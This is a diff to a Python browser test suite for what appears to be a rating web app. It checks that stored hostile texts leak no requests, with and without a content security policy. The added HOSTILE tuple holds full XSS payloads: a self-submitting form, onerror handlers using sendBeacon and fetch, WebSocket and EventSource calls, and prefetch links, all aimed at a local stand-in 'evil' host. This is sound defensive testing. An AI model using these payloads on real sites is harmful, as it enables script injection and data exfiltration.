@@ -10,7 +10,6 @@ import time
 from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import timedelta
-from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
 from typing import Any
 from urllib.parse import urlsplit
@@ -29,9 +28,10 @@ from monitors.web.standalone import COOKIE, check_host, create_app, link_for
 from sql.errors import ConfigurationError
 from sql.store import Store
 from sql.tables import label, review_entry
-from tests.browser import browser, chromium
+from tests.browser import Browser, browser, chromium
 from tests.conftest import unavailable
-from tests.review_kit import MONTH, NOW, fill_month, review_context
+from tests.ear import listening
+from tests.review_kit import MONTH, NOW, fill_month, rate_all, review_context
 
 BATCH = "log-2026-05"
 FULL = dict.fromkeys(DIMENSIONS, "4")
@@ -45,6 +45,12 @@ HOSTILE = (
     "javascript:fetch('{evil}/j') {{{{7*7}}}} ${{7*7}}",
     '<style>@import "{evil}/k"; body{{background:url({evil}/l)}}</style>',
     '</textarea><video src="{evil}/m"></video><object data="{evil}/n"></object>',
+    '</form><form method="post" action="{evil}/o"><input autofocus onfocus="form.submit()"></form>',
+    '<link rel="preconnect" href="{evil}"><link rel="prefetch" href="{evil}/p"><input type=image '
+    'src="{evil}/q">',
+    "<img src=x onerror=\"navigator.sendBeacon('{evil}/r'); fetch('{evil}', {{method: 'PUT'}})\">",
+    '<script>new WebSocket("ws://127.0.0.1:{port}/s"); new EventSource("{evil}/t")</script>',
+    '[a]: {evil}/u "x"\n![b][a] <{evil}/v> {evil}/w?d=\u202e\u200bsecret',
 )
 
 
@@ -271,50 +277,72 @@ def test_a_sitting_ends_with_a_pause(store: Store, tmp_path: Path) -> None:
 # ── in a browser ─────────────────────────────────────────────────────────────────────────────
 
 
-@pytest.fixture
-def evil() -> Iterator[tuple[str, list[str]]]:
-    """A server that hears whatever escapes."""
-    heard: list[str] = []
-
-    class Ear(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            heard.append(self.path)
-            self.send_response(204)
-            self.end_headers()
-
-        def log_message(self, *_: object) -> None: ...
-
-    server = HTTPServer(("127.0.0.1", 0), Ear)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield f"http://127.0.0.1:{server.server_port}", heard
-    server.shutdown()
+def _speak(tab: Browser, ear: str, port: int) -> None:
+    """Say something to the ear in every way that a page has."""
+    for script in (
+        f"fetch('{ear}/get', {{mode: 'no-cors'}}).catch(() => 0)",
+        f"fetch('{ear}/post', {{mode: 'no-cors', method: 'POST'}}).catch(() => 0)",
+        f"fetch('{ear}/head', {{mode: 'no-cors', method: 'HEAD'}}).catch(() => 0)",
+        f"fetch('{ear}/put', {{method: 'PUT'}}).catch(() => 0)",
+        f"navigator.sendBeacon('{ear}/beacon', 'x')",
+        f"new Promise(done => {{ const s = new WebSocket('ws://127.0.0.1:{port}/socket');"
+        " s.onerror = s.onclose = () => done(0); })",
+    ):
+        tab.run(script)
 
 
 @pytest.mark.parametrize("policy", [True, False])
-def test_hostile_texts_reach_nobody(
-    tmp_path: Path, evil: tuple[str, list[str]], policy: bool
-) -> None:
+def test_hostile_texts_reach_nobody(tmp_path: Path, policy: bool) -> None:
     """With the policy and, as if it were lost, without: escaping must do by itself."""
     if chromium() is None:
         unavailable("Chromium", "it is not installed")
-    address, heard = evil
-    hostile = [text.format(evil=address) for text in HOSTILE]
-    texts = [(hostile[n % len(hostile)], hostile[(n + 1) % len(hostile)]) for n in range(120)]
     store = Store.open(f"sqlite:///{tmp_path}/store.db")
-    context = batch_of(store, tmp_path, texts=texts)
-    for served in serving(context):
-        with browser() as tab, served.client("eva") as client:
-            tab.cookie(COOKIE, client.cookies[COOKIE], served.url)
-            if not policy:
-                tab.send("Page.setBypassCSP", enabled=True)
-            tab.open(f"{served.url}/rate/{BATCH}/1", 0.1)
-            tab.run(f"fetch('{address}/proof', {{mode: 'no-cors'}}).catch(() => 0)")
-            for number in range(1, 2 * len(hostile) + 1):
-                tab.open(f"{served.url}/rate/{BATCH}/{number}", 0.1)
-                assert tab.run("document.querySelectorAll('pre *').length") == 0
-                assert len(tab.run("document.querySelector('#answer').textContent")) > 20
-    assert heard == ([] if policy else ["/proof"])  # the ear works, and nothing else was said
+    with listening() as ear:
+        hostile = [text.format(evil=ear.url, port=ear.port) for text in HOSTILE]
+        texts = [(hostile[n % len(hostile)], hostile[(n + 1) % len(hostile)]) for n in range(120)]
+        context = batch_of(store, tmp_path, texts=texts, evaluators=["eva", "finn"])
+        for served in serving(context):
+            with browser() as tab, served.client("eva") as client:
+                tab.cookie(COOKIE, client.cookies[COOKIE], served.url)
+                if not policy:
+                    tab.send("Page.setBypassCSP", enabled=True)
+                _read_all(tab, served, len(hostile))
+                _read_disputes(tab, served, len(hostile))
+                foreign = [url for url in tab.requests if not url.startswith(served.url)]
+                assert (ear.heard, foreign) == ([], [])
+                _speak(tab, ear.url, ear.port)
+        methods = {line.split()[0] for line in ear.heard}
+        # The ear works, where the policy does not shut the mouth.
+        assert methods == (set() if policy else {"GET", "POST", "HEAD", "OPTIONS"})
+        assert policy or any("/socket" in line for line in ear.heard)
     store.close()
+
+
+def _read_all(tab: Browser, served: Served, kinds: int) -> None:
+    """Each hostile text as a question and as an answer, marked and raw."""
+    seen = set()
+    for place in desk.queue(BATCH, "eva", served.context):
+        kind = int(place.item_id.removeprefix("r")) % kinds
+        if kind in seen:
+            continue
+        seen.add(kind)
+        for raw in ("", "?raw=true"):
+            tab.open(f"{served.url}/rate/{BATCH}/{place.number}{raw}", 0.1)
+            assert tab.run("document.querySelectorAll('pre *').length") == 0
+            assert len(tab.run("document.querySelector('#answer').textContent")) > 10
+    assert len(seen) == kinds
+
+
+def _read_disputes(tab: Browser, served: Served, kinds: int) -> None:
+    """The administrator's page, on which the same texts stand."""
+    context = served.context
+    truth = {f"r{number:05d}": float(number % 2) for number in range(120)}
+    rate_all(context, BATCH, truth, noise=0.5)
+    token = signed(Person("ada", admin=True), NOW + timedelta(days=1), secret_of(context))
+    tab.cookie(COOKIE, token, served.url)
+    tab.open(f"{served.url}/batch/{BATCH}/disputes", 0.3)
+    assert tab.run("document.querySelectorAll('pre').length") >= kinds
+    assert tab.run("document.querySelectorAll('pre *').length") == 0
 
 
 def test_six_keys_an_item_in_a_real_browser(tmp_path: Path) -> None:
